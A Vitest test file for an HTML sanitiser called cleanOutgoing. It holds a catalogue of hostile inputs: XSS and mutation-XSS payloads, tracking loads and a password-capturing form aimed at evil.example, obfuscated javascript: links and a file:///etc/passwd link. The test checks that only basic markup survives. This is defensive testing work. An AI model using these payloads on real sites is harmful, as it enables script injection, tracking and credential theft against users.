// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { cleanOutgoing } from './html';

/** One trick each, by the threat it belongs to. */
const HOSTILE: Record<string, string[]> = {
  script: [
    '<script>alert(1)</script>words',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<img src=x onerror=alert(1)>',
    '<body onload=alert(1)>words',
    '<svg onload=alert(1)><script>alert(1)</script></svg>',
    '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>',
    '<details open ontoggle=alert(1)>x</details>',
    '<p onclick=alert(1) tabindex=0 autofocus contenteditable=true>x</p>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<template><img src=x onerror=alert(1)></template>',
    '<x-widget is=x onclick=alert(1)>x</x-widget>',
  ],
  mutation: [
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    '<textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>',
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
    '<!--><img src=x onerror=alert(1)>-->',
    '&lt;img src=x onerror=alert(1)&gt;<b>&amp;lt;script&amp;gt;</b>',
    '<pre>&lt;script&gt;alert(1)&lt;/script&gt;</pre>',
  ],
  loads: [
    '<img src="https://evil.example/p.gif" srcset="https://evil.example/q.gif 2x">',
    '<img src="//evil.example/p.gif"><img src="data:image/png;base64,AAAA"><img src="cid:1">',
    '<p style="background:url(https://evil.example/p.gif)">x</p>',
    '<table background="https://evil.example/p.gif"><tr><td>x</td></tr></table>',
    '<link rel=stylesheet href="https://evil.example/x.css"><style>@import "https://evil.example/x.css";</style>x',
    '<video poster="https://evil.example/p.gif" src="https://evil.example/v">x</video>',
  ],
  links: [
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#106;avascript&colon;alert(1)">x</a>',
    '<a href=" \u0001java\tscr\nipt:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="file:///etc/passwd">x</a><a href="/x">y</a><a href="//evil.example">z</a>',
    '<a href="https://example.com" target=_top ping="https://evil.example" download id=x name=y>x</a>',
    '<a href="https://bank.example@evil.example/">x</a>',
  ],
  'leading elsewhere': [
    '<meta http-equiv=refresh content="0;url=https://evil.example">x',
    '<base href="https://evil.example/"><a href="x">x</a>',
    '<form action="https://evil.example"><input type=password><button>Sign in</button></form>',
  ],
  hiding: [
    '<div style="display:none">hidden</div>x',
    '<span hidden>hidden</span>x',
    '<font color=white style="opacity:0">hidden</font>x',
  ],
};

const ALLOWED = ['P', 'BR', 'B', 'I', 'U', 'S', 'A', 'UL', 'OL', 'LI', 'BLOCKQUOTE'];

const cases = Object.entries(HOSTILE).flatMap(([threat, all]) => all.map((html) => [threat, html] as const));

describe('what leaves holds nothing but words and basic markup', () => {
  it.each(cases)('%s: %s', (_threat, html) => {
    const clean = cleanOutgoing(html);
    const { body } = new DOMParser().parseFromString(`<!doctype html><body>${clean}`, 'text/html');
    for (const element of body.querySelectorAll('*')) {
      expect(ALLOWED).toContain(element.tagName);
      for (const { name, value } of element.attributes) {
        expect([element.tagName, name]).toEqual(['A', 'href']);
        expect(value).toMatch(/^(?:https?:\/\/|mailto:|tel:)[^@]*$/u);
      }
    }
    expect(body.textContent).not.toMatch(/hidden/u);
    expect(cleanOutgoing(clean)).toBe(clean);
  });
});
